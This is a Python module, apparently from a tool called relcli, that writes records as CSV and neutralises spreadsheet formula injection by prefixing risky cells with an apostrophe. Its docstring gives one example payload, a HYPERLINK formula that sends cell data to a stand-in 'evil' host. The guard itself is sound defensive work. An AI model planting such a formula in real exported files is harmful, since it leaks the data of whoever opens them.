"""CSV: a header row, one row per record (a detail view gives its one record).

Data files are untrusted, and a CSV file is usually opened in a spreadsheet, which runs a cell
starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` in a title would leak the sheet or worse. So every
such cell gets a ``'`` in front, as OWASP recommends ("CSV Injection"); spreadsheets show the
text as typed and hide the ``'``. No exception is made for numbers: relcli writes no negative
numbers, so a leading ``-`` is always data text. ``--csv-raw`` (``RenderOptions.csv_raw``)
turns the guard off for programs that want the cells exactly as in the data.
"""

from __future__ import annotations

import csv
import io

from . import Document, RenderOptions
from .flat import rows

# What a spreadsheet may read as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(cell: str) -> str:
    """``cell`` as a spreadsheet will show it but never run it: ``'`` before a formula start."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def render(document: Document, options: RenderOptions) -> str:
    columns, body = rows(document)
    if not options.csv_raw:
        body = [[neutralised(cell) for cell in row] for row in body]
    # Rows end with "\n", but the writer is told "\r\n": it quotes a cell when it holds a
    # character of the line terminator, and a cell with a bare "\r" left unquoted would end the
    # row early for every CSV reader. The "\r\n" it appends to each row is cut off again.
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    lines = []
    for row in (columns, *body):
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(row)
        lines.append(buffer.getvalue()[:-2])
    return "\n".join(lines) + "\n"
